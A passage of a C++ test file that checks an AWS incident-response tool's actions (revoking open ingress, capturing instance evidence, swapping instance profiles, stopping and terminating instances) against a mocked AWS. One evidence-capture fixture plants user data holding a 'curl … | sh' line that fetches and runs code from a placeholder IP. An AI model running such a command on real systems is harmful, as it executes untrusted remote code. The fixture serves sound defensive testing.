  EXPECT_EQ(moto_->Boto3("c = boto3.client('support', region_name='us-east-1').describe_cases(caseIdList=['" + case_id +
                         "'], includeResolvedCases=True)['cases'][0]\nprint(c['subject'])"),
            std::string("cloudward incident ") + kIncident + ": compromised workload");

  mark = recorder_->Mark();
  auto again = responder_->Apply("open-support-case", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_EQ(again->plan.prior_state["case_id"], case_id);
  EXPECT_FALSE(Contains(OperationsSince(mark), "AWSSupport_20130415.CreateCase"));
  const std::string after = cases();
  EXPECT_EQ(after.find(kIncident), after.rfind(kIncident)) << after;  // one case for the incident

  auto rollback = responder_->PlanRollback(applied->action.id);
  ASSERT_TRUE(rollback) << rollback.error().message;
  EXPECT_FALSE(rollback->reversible);
  EXPECT_TRUE(rollback->no_op());
  EXPECT_NE(rollback->summary.find(case_id), std::string::npos) << rollback->summary;

  auto code = [&](ActionRequest r) {
    auto p = responder_->PlanAction("open-support-case", r);
    EXPECT_FALSE(p);
    return p ? ErrorCode::kInternal : p.error().code;
  };
  EXPECT_EQ(code({.target = kIncident, .incident_id = kIncident, .options = {{"title", "t"}}}),
            ErrorCode::kInvalidArgument);  // no summary
  EXPECT_EQ(code({.target = kIncident, .incident_id = kIncident,
                  .options = {{"title", "t"}, {"summary", "s"}, {"severity", "sev1"}}}),
            ErrorCode::kInvalidArgument);
  EXPECT_EQ(code({.target = "INC-other", .incident_id = kIncident, .options = {{"title", "t"}, {"summary", "s"}}}),
            ErrorCode::kInvalidArgument);
}

// ---------------------------------------------------------------------- revoke-open-ingress
TEST_F(RespondMotoTest, RevokeOpenIngressClosesWorldRangesKeepsTheRestAndReopensOnRollback) {
  const std::string group = moto_->Boto3(
      "ec2 = boto3.client('ec2')\n"
      "vpc = ec2.create_vpc(CidrBlock='10.43.0.0/16')['Vpc']['VpcId']\n"
      "g = ec2.create_security_group(VpcId=vpc, GroupName='web', Description='web')['GroupId']\n"
      "ec2.authorize_security_group_ingress(GroupId=g, IpPermissions=[\n"
      "  {'IpProtocol': 'tcp', 'FromPort': 22, 'ToPort': 22, 'IpRanges': [{'CidrIp': '0.0.0.0/0'}, {'CidrIp': '10.0.0.0/8'}],\n"
      "   'Ipv6Ranges': [{'CidrIpv6': '::/0'}]},\n"
      "  {'IpProtocol': 'tcp', 'FromPort': 443, 'ToPort': 443, 'IpRanges': [{'CidrIp': '0.0.0.0/0'}]},\n"
      "  {'IpProtocol': 'tcp', 'FromPort': 5432, 'ToPort': 5432, 'IpRanges': [{'CidrIp': '10.0.0.0/8'}]}])\n"
      "print(g)");
  ASSERT_TRUE(group.starts_with("sg-")) << group;
  // Sorted "port:cidr" pairs of the group's ingress, as boto3 sees them.
  auto rules = [&] {
    return moto_->Boto3(
        "g = boto3.client('ec2').describe_security_groups(GroupIds=['" + group + "'])['SecurityGroups'][0]\n"
        "print(' '.join(sorted('%s:%s' % (p.get('FromPort'), r.get('CidrIp') or r.get('CidrIpv6'))\n"
        "  for p in g['IpPermissions'] for r in p.get('IpRanges', []) + p.get('Ipv6Ranges', []))))");
  };
  const std::string before = rules();
  ASSERT_EQ(before, "22:0.0.0.0/0 22:10.0.0.0/8 22:::/0 443:0.0.0.0/0 5432:10.0.0.0/8");

  const ActionRequest request{.target = group, .incident_id = kIncident, .options = {{"keep", "80,443"}}};
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("revoke-open-ingress", request);
  ASSERT_TRUE(plan) << plan.error().message;
  ASSERT_EQ(plan->calls.size(), 1u) << plan->ToJson().dump(2);
  EXPECT_EQ(plan->calls[0].operation, "ec2:RevokeSecurityGroupIngress");
  EXPECT_EQ(plan->calls[0].parameters["Cidrs"], (json{"0.0.0.0/0", "::/0"}));
  EXPECT_EQ(plan->calls[0].parameters["FromPort"], 22);
  EXPECT_NE(plan->ToJson().dump().find("kept open to the internet (option keep): tcp/443"), std::string::npos);
  EXPECT_FALSE(Contains(OperationsSince(mark), "RevokeSecurityGroupIngress"));
  EXPECT_EQ(rules(), before) << "planning changes nothing";

  auto applied = responder_->Apply("revoke-open-ingress", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(rules(), "22:10.0.0.0/8 443:0.0.0.0/0 5432:10.0.0.0/8") << "only the world ranges of tcp/22 are gone";
  auto again = responder_->Apply("revoke-open-ingress", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  ASSERT_TRUE(rolled->execution.ok()) << rolled->execution.error->message;
  EXPECT_EQ(rules(), before) << "rollback reopens exactly what was closed";

  // Without keep, 443 closes too; bad input is refused before any AWS call.
  auto all = responder_->PlanAction("revoke-open-ingress", {.target = group, .incident_id = kIncident});
  ASSERT_TRUE(all);
  EXPECT_EQ(all->calls.size(), 2u);
  EXPECT_EQ(responder_->PlanAction("revoke-open-ingress", {.target = "sg-nothex!", .incident_id = kIncident}).error().code,
            ErrorCode::kInvalidArgument);
  EXPECT_EQ(responder_->PlanAction("revoke-open-ingress", {.target = group, .incident_id = kIncident,
                                                            .options = {{"keep", "80,https"}}})
                .error()
                .code,
            ErrorCode::kInvalidArgument);
  EXPECT_EQ(responder_->PlanAction("revoke-open-ingress", {.target = "sg-0123456789abcdef0", .incident_id = kIncident})
                .error()
                .code,
            ErrorCode::kNotFound);
}

// -------------------------------------------------------------------- capture-instance-evidence
// The error code of a failed result; nullopt when it succeeded.
template <class T>
std::optional<ErrorCode> CodeOf(const Result<T>& r) {
  return r ? std::nullopt : std::optional(r.error().code);
}

TEST_F(RespondMotoTest, CaptureInstanceEvidenceKeepsConsoleUserDataAndConfiguration) {
  const std::string trust = R"({"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]})";
  ASSERT_TRUE(aws_->Query("iam", "CreateRole", {{"RoleName", "evidence-role"}, {"AssumeRolePolicyDocument", trust}}));
  ASSERT_TRUE(aws_->Query("iam", "CreateInstanceProfile", {{"InstanceProfileName", "evidence-profile"}}));
  ASSERT_TRUE(aws_->Query("iam", "AddRoleToInstanceProfile",
                          {{"InstanceProfileName", "evidence-profile"}, {"RoleName", "evidence-role"}}));
  // #!/bin/sh\ncurl http://198.51.100.7/x | sh\n
  const std::string user_data = "IyEvYmluL3NoCmN1cmwgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gK";
  std::string instance = moto_->Boto3(
      "r = boto3.client('ec2').run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1, UserData="
      "'#!/bin/sh\\ncurl http://198.51.100.7/x | sh\\n', IamInstanceProfile={'Name': 'evidence-profile'},"
      " TagSpecifications=[{'ResourceType': 'instance', 'Tags': [{'Key': 'Name', 'Value': 'web-1'}]}])\n"
      "print(r['Instances'][0]['InstanceId'])");
  ASSERT_TRUE(instance.starts_with("i-")) << instance;
  auto described = aws::ec2::DescribeInstances(*aws_, {instance});
  ASSERT_TRUE(described && described->size() == 1);
  const std::string eni = (*described)[0].network_interface_ids.at(0);
  auto web = aws::ec2::CreateSecurityGroup(*aws_, (*described)[0].vpc_id, "evidence-web", "web");
  ASSERT_TRUE(web);
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').authorize_security_group_ingress(GroupId='" + *web +
                         "', IpPermissions=[{'IpProtocol': 'tcp', 'FromPort': 22, 'ToPort': 22, 'IpRanges': "
                         "[{'CidrIp': '0.0.0.0/0'}]}])\nprint('ok')"),
            "ok");
  ASSERT_TRUE(aws::ec2::ModifyNetworkInterfaceSecurityGroups(*aws_, eni, {*web}));
  auto evidence_tag = [&] {
    return moto_->Boto3("print([t['Value'] for t in boto3.client('ec2').describe_tags(Filters=[{'Name': 'resource-id',"
                        " 'Values': ['" + instance + "']}, {'Name': 'key', 'Values': ['cloudward:evidence']}])['Tags']])");
  };
  // What AWS has, read separately: the SHA-256 of the console output (botocore decodes it).
  const std::string console_sha = moto_->Boto3(
      "import hashlib\n"
      "o = boto3.client('ec2').get_console_output(InstanceId='" + instance + "')['Output']\n"
      "print(hashlib.sha256(o.encode()).hexdigest())");
  ASSERT_EQ(console_sha.size(), 64u) << console_sha;
  const ActionRequest request{.target = instance, .incident_id = kIncident};

  // Plan: the configuration is read now (prior state); the console output and user data are the
  // calls; nothing is read from the console or tagged yet, nothing is stored.
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("capture-instance-evidence", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "GetConsoleOutput"));
  EXPECT_FALSE(Contains(OperationsSince(mark), "CreateTags"));
  ASSERT_EQ(plan->calls.size(), 3u);
  EXPECT_EQ(plan->calls[0].operation, "ec2:GetConsoleOutput");
  EXPECT_EQ(plan->calls[0].parameters, (json{{"InstanceId", instance}, {"Latest", true}}));
  EXPECT_EQ(plan->calls[1].parameters, (json{{"InstanceId", instance}, {"Attribute", "userData"}}));
  EXPECT_EQ(plan->calls[2].operation, "ec2:CreateTags");
  EXPECT_EQ(plan->calls[2].parameters["Tags"], (json{{"cloudward:evidence", kIncident}}));
  const json& prior = plan->prior_state;
  EXPECT_EQ(prior["state"], "running");
  EXPECT_EQ(prior["tags"]["Name"], "web-1");
  EXPECT_EQ(prior["attributes"]["disableApiTermination"], "false");
  EXPECT_EQ(prior["attributes"]["instanceInitiatedShutdownBehavior"], "stop");
  ASSERT_EQ(prior["instance_profile_associations"].size(), 1u) << prior.dump(2);
  EXPECT_NE(prior["instance_profile_associations"][0]["arn"].get<std::string>().find("evidence-profile"),
            std::string::npos);
  ASSERT_EQ(prior["network_interfaces"].size(), 1u);
  EXPECT_EQ(prior["network_interfaces"][0]["groups"], json::array({*web}));
  bool has_rule = false;
  for (const auto& g : prior["security_groups"]) {
    if (g["id"] != *web) continue;
    for (const auto& p : g["ingress"]) has_rule |= p["from_port"] == 22 && p["cidrs"] == json::array({"0.0.0.0/0"});
  }
  EXPECT_TRUE(has_rule) << prior["security_groups"].dump(2);
  EXPECT_EQ(evidence_tag(), "[]");
  EXPECT_TRUE(Actions().empty());

  // Apply: the evidence is the calls' output, kept with the action and in the journal.
  auto applied = responder_->Apply("capture-instance-evidence", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(evidence_tag(), "['" + std::string(kIncident) + "']");
  auto row = store_->GetAction(applied->action.id);
  ASSERT_TRUE(row);
  EXPECT_EQ(row->status, "applied");
  EXPECT_EQ(row->request_ids.size(), 3u);
  EXPECT_EQ(json::parse(row->prior_state)["tags"]["Name"], "web-1");
  json result = json::parse(row->plan)["result"];
  json console = json::parse(result["calls"][0]["result"].get<std::string>());
  EXPECT_EQ(console["instance_id"], instance);
  EXPECT_EQ(console["sha256"], console_sha);
  EXPECT_GT(console["bytes"].get<size_t>(), 0u);
  EXPECT_EQ(console["kept_bytes"], console["bytes"]);
  EXPECT_EQ(console["truncated"], false);
  EXPECT_NE(console["text"].get<std::string>().find("Linux version"), std::string::npos);
  json user = json::parse(result["calls"][1]["result"].get<std::string>());
  EXPECT_EQ(user["text"], "#!/bin/sh\ncurl http://198.51.100.7/x | sh\n");
  EXPECT_EQ(user["sha256"], aws::Sha256Hex(*DecodeBase64(user_data)));
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 1u);
  EXPECT_EQ(journal[0]["outcome"], "applied");
  EXPECT_EQ(json::parse(journal[0]["calls"][0]["result"].get<std::string>())["sha256"], console_sha);
  EXPECT_EQ(journal[0]["request_ids"].size(), 3u);

  // Apply again for the same incident: a no-op that reads nothing; recapture=true reads again.
  mark = recorder_->Mark();
  auto again = responder_->Apply("capture-instance-evidence", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "GetConsoleOutput"));
  ActionRequest recapture = request;
  recapture.options["recapture"] = "true";
  auto recaptured = responder_->Apply("capture-instance-evidence", recapture);
  ASSERT_TRUE(recaptured && recaptured->execution.ok());
  EXPECT_EQ(recaptured->plan.calls.size(), 3u);
  recapture.options["recapture"] = "yes";
  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence", recapture)), ErrorCode::kInvalidArgument);

  // Rollback: nothing to undo; the evidence and the tag stay.
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_FALSE(rolled->rolled_back);
  EXPECT_FALSE(rolled->plan.reversible);
  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "applied");
  EXPECT_EQ(evidence_tag(), "['" + std::string(kIncident) + "']");

  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence", {.target = instance})),
            ErrorCode::kInvalidArgument);  // no incident
  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence", {.target = "i-zz", .incident_id = kIncident})),
            ErrorCode::kInvalidArgument);
  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence",
                                          {.target = "i-0123456789abcdef0", .incident_id = kIncident})),
            ErrorCode::kNotFound);
}

// --------------------------------------------------------------------- replace-instance-profile
TEST_F(RespondMotoTest, ReplaceInstanceProfileRemovesOrQuarantinesAndGivesItBack) {
  ASSERT_EQ(moto_->Boto3(
                "iam = boto3.client('iam')\n"
                "trust = '{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Service\":"
                "\"ec2.amazonaws.com\"},\"Action\":\"sts:AssumeRole\"}]}'\n"
                "for role, profile in (('app-role', 'app-profile'), ('quarantine-role', 'quarantine-profile'),"
                " ('admin-role', 'admin-profile')):\n"
                "  iam.create_role(RoleName=role, AssumeRolePolicyDocument=trust)\n"
                "  iam.create_instance_profile(InstanceProfileName=profile)\n"
                "  iam.add_role_to_instance_profile(InstanceProfileName=profile, RoleName=role)\n"
                "print('ok')"),
            "ok");
  auto run = [&] {
    return moto_->Boto3("r = boto3.client('ec2').run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1,"
                        " IamInstanceProfile={'Name': 'app-profile'})\nprint(r['Instances'][0]['InstanceId'])");
  };
  const std::string instance = run(), neighbour = run();
  ASSERT_TRUE(instance.starts_with("i-") && neighbour.starts_with("i-")) << instance << neighbour;
  // A separate read: the profile name the instance is associated with now, or "none".
  auto profile_of = [&](const std::string& id) {
    return moto_->Boto3("a = [x for x in boto3.client('ec2').describe_iam_instance_profile_associations(Filters=["
                        "{'Name': 'instance-id', 'Values': ['" + id + "']}])['IamInstanceProfileAssociations']"
                        " if x['State'] in ('associated', 'associating')]\n"
                        "print(a[0]['IamInstanceProfile']['Arn'].split('/')[-1] if a else 'none')");
  };
  ASSERT_EQ(profile_of(instance), "app-profile");
  const ActionRequest request{.target = instance, .incident_id = kIncident};

  // Plan: one disassociation; the neighbour is named as collateral, with the role's sessions.
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("replace-instance-profile", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "DisassociateIamInstanceProfile"));
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "ec2:DisassociateIamInstanceProfile");
  EXPECT_EQ(plan->calls[0].parameters["AssociationId"], plan->prior_state["association_id"]);
  EXPECT_TRUE(plan->prior_state["instance_profile_arn"].get<std::string>().ends_with("/app-profile"));
  EXPECT_EQ(plan->prior_state["role_names"], json::array({"app-role"}));
  bool collateral = std::any_of(plan->notes.begin(), plan->notes.end(), [&](const std::string& n) {
    return n.find(neighbour + " (running)") != std::string::npos && n.find("sessions") != std::string::npos &&
           n.find("does not touch them") != std::string::npos;
  });
  EXPECT_TRUE(collateral) << plan->ToJson().dump(2);
  EXPECT_EQ(profile_of(instance), "app-profile");
  EXPECT_TRUE(Actions().empty());

  // Apply: the profile is gone from the instance only.
  auto applied = responder_->Apply("replace-instance-profile", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(profile_of(instance), "none");
  EXPECT_EQ(profile_of(neighbour), "app-profile");
  mark = recorder_->Mark();
  auto again = responder_->Apply("replace-instance-profile", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "DisassociateIamInstanceProfile"));

  // Rollback: associated again with the same profile.
  auto rollback_plan = responder_->PlanRollback(applied->action.id);
  ASSERT_TRUE(rollback_plan) << rollback_plan.error().message;
  ASSERT_EQ(rollback_plan->calls.size(), 1u);
  EXPECT_EQ(rollback_plan->calls[0].operation, "ec2:AssociateIamInstanceProfile");
  EXPECT_EQ(profile_of(instance), "none");
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(profile_of(instance), "app-profile");

  // With a quarantine profile: replaced, then replaced back.
  ActionRequest quarantine = request;
  quarantine.options["quarantine_profile"] = "quarantine-profile";
  auto replaced = responder_->Apply("replace-instance-profile", quarantine);
  ASSERT_TRUE(replaced) << replaced.error().message;
  ASSERT_TRUE(replaced->execution.ok()) << replaced->execution.error->message;
  ASSERT_EQ(replaced->plan.calls.size(), 1u);
  EXPECT_EQ(replaced->plan.calls[0].operation, "ec2:ReplaceIamInstanceProfileAssociation");
  EXPECT_EQ(profile_of(instance), "quarantine-profile");
  auto replaced_again = responder_->Apply("replace-instance-profile", quarantine);
  ASSERT_TRUE(replaced_again) << replaced_again.error().message;
  EXPECT_TRUE(replaced_again->no_op);
  auto unquarantined = responder_->Rollback(replaced->action.id);
  ASSERT_TRUE(unquarantined) << unquarantined.error().message;
  ASSERT_EQ(unquarantined->plan.calls.size(), 1u);
  EXPECT_EQ(unquarantined->plan.calls[0].operation, "ec2:ReplaceIamInstanceProfileAssociation");
  EXPECT_EQ(profile_of(instance), "app-profile");

  // Changed since (another profile): rollback refused and journaled, nothing changed.
  auto removed = responder_->Apply("replace-instance-profile", request);
  ASSERT_TRUE(removed && removed->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').associate_iam_instance_profile(InstanceId='" + instance +
                         "', IamInstanceProfile={'Name': 'admin-profile'})\nprint('ok')"),
            "ok");
  auto refused = responder_->Rollback(removed->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;
  EXPECT_NE(refused.error().message.find("admin-profile"), std::string::npos) << refused.error().message;
  EXPECT_EQ(profile_of(instance), "admin-profile");
  EXPECT_EQ(ActionJournal().back()["outcome"], "refused");

  quarantine.options["quarantine_profile"] = "no-such-profile";
  EXPECT_EQ(CodeOf(responder_->PlanAction("replace-instance-profile", quarantine)), ErrorCode::kInvalidArgument);
  auto bare = moto_->Boto3("r = boto3.client('ec2').run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1)\n"
                           "print(r['Instances'][0]['InstanceId'])");
  auto none = responder_->PlanAction("replace-instance-profile", {.target = bare, .incident_id = kIncident});
  ASSERT_TRUE(none) << none.error().message;
  EXPECT_TRUE(none->no_op());
}

// -------------------------------------------------------------------------------- stop-instance
TEST_F(RespondMotoTest, StopInstanceOnlyAfterEvidenceAndStartsItOnRollback) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  auto state = [&] {
    return moto_->Boto3("print(boto3.client('ec2').describe_instances(InstanceIds=['" + instance +
                        "'])['Reservations'][0]['Instances'][0]['State']['Name'])");
  };
  const ActionRequest request{.target = instance, .incident_id = kIncident};

  // No evidence snapshot yet: refused, naming the volume.
  auto refused = responder_->PlanAction("stop-instance", request);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
  EXPECT_NE(refused.error().message.find("snapshot-instance-volumes"), std::string::npos) << refused.error().message;
  auto not_applied = responder_->Apply("stop-instance", request);
  ASSERT_FALSE(not_applied);
  EXPECT_TRUE(Actions().empty());
  EXPECT_EQ(state(), "running");

  auto snapshots = responder_->Apply("snapshot-instance-volumes", request);
  ASSERT_TRUE(snapshots && snapshots->execution.ok());
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("stop-instance", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "StopInstances"));
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "ec2:StopInstances");
  EXPECT_EQ(plan->calls[0].parameters, (json{{"InstanceIds", json::array({instance})}}));
  EXPECT_EQ(plan->prior_state["state"], "running");
  EXPECT_FALSE(plan->prior_state["evidence_snapshots"].empty());
  bool memory = std::any_of(plan->notes.begin(), plan->notes.end(),
                            [](const std::string& n) { return n.find("memory is lost") != std::string::npos; });
  EXPECT_TRUE(memory) << plan->ToJson().dump(2);
  EXPECT_EQ(state(), "running");

  auto applied = responder_->Apply("stop-instance", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(state(), "stopped");
  mark = recorder_->Mark();
  auto again = responder_->Apply("stop-instance", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "StopInstances"));

  auto rollback_plan = responder_->PlanRollback(applied->action.id);
  ASSERT_TRUE(rollback_plan) << rollback_plan.error().message;
  ASSERT_EQ(rollback_plan->calls.size(), 1u);
  EXPECT_EQ(rollback_plan->calls[0].operation, "ec2:StartInstances");
  EXPECT_EQ(state(), "stopped");
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(state(), "running");
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 4u);  // snapshot, stop, no-op, rollback
  EXPECT_EQ(journal[1]["outcome"], "applied");
  EXPECT_EQ(journal[2]["outcome"], "no_op");
  EXPECT_EQ(journal[3]["outcome"], "rolled_back");

  // Terminated since: rollback refused.
  auto second = responder_->Apply("stop-instance", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').terminate_instances(InstanceIds=['" + instance + "'])\nprint('ok')"), "ok");
  auto gone = responder_->Rollback(second->action.id);
  ASSERT_FALSE(gone);
  EXPECT_EQ(gone.error().code, ErrorCode::kConflict) << gone.error().message;
  EXPECT_EQ(CodeOf(responder_->PlanAction("stop-instance", {.target = instance})), ErrorCode::kInvalidArgument);
}

// --------------------------------------------------------------------------- terminate-instance
TEST_F(RespondMotoTest, TerminateInstanceOnlyWhenConfirmedUnprotectedAndWithEvidence) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  auto state = [&] {
    return moto_->Boto3("print(boto3.client('ec2').describe_instances(InstanceIds=['" + instance +
                        "'])['Reservations'][0]['Instances'][0]['State']['Name'])");
  };
  const ActionRequest unconfirmed{.target = instance, .incident_id = kIncident};
  ActionRequest confirmed = unconfirmed;
  confirmed.options["confirm"] = "true";

  // Without evidence and without confirm=true: refused for both reasons at once.
  auto refused = responder_->PlanAction("terminate-instance", unconfirmed);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
  EXPECT_NE(refused.error().message.find("snapshot-instance-volumes"), std::string::npos) << refused.error().message;
  EXPECT_NE(refused.error().message.find("confirm=true"), std::string::npos) << refused.error().message;
  ASSERT_TRUE(responder_->Apply("snapshot-instance-volumes", unconfirmed));
  auto unconfirmed_apply = responder_->Apply("terminate-instance", unconfirmed);
  ASSERT_FALSE(unconfirmed_apply);
  EXPECT_EQ(unconfirmed_apply.error().code, ErrorCode::kInvalidArgument);
  EXPECT_EQ(state(), "running");

  // Termination protection on: refused, and left on.
  auto protect = responder_->Apply("protect-instance", unconfirmed);
  ASSERT_TRUE(protect && protect->execution.ok());
  size_t mark = recorder_->Mark();
  auto protected_plan = responder_->Apply("terminate-instance", confirmed);
  ASSERT_FALSE(protected_plan);
  EXPECT_EQ(protected_plan.error().code, ErrorCode::kConflict);
  EXPECT_NE(protected_plan.error().message.find("termination protection is on"), std::string::npos);
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyInstanceAttribute"));
  EXPECT_FALSE(Contains(OperationsSince(mark), "TerminateInstances"));
  EXPECT_EQ(moto_->Boto3("print(boto3.client('ec2').describe_instance_attribute(InstanceId='" + instance +
                         "', Attribute='disableApiTermination')['DisableApiTermination']['Value'])"),
            "True");
  ASSERT_TRUE(responder_->Rollback(protect->action.id));

  // Confirmed, unprotected, with evidence: the plan says loudly that there is no way back.
  mark = recorder_->Mark();
  auto plan = responder_->PlanAction("terminate-instance", confirmed);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "TerminateInstances"));
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "ec2:TerminateInstances");
  EXPECT_NE(plan->summary.find("NO rollback"), std::string::npos) << plan->summary;
  EXPECT_NE(plan->notes.at(0).find("NO ROLLBACK"), std::string::npos);
  EXPECT_EQ(state(), "running");

  auto applied = responder_->Apply("terminate-instance", confirmed);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(state(), "terminated");
  auto again = responder_->Apply("terminate-instance", confirmed);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);

  mark = recorder_->Mark();
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_FALSE(rolled->rolled_back);
  EXPECT_FALSE(rolled->plan.reversible);
  EXPECT_NE(rolled->plan.summary.find("nothing can undo"), std::string::npos);
  EXPECT_TRUE(OperationsSince(mark).empty() || !Contains(OperationsSince(mark), "StartInstances"));
  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "applied");
  EXPECT_EQ(ActionJournal().back()["outcome"], "nothing_to_undo");
}

}  // namespace
}  // namespace cloudward::respond
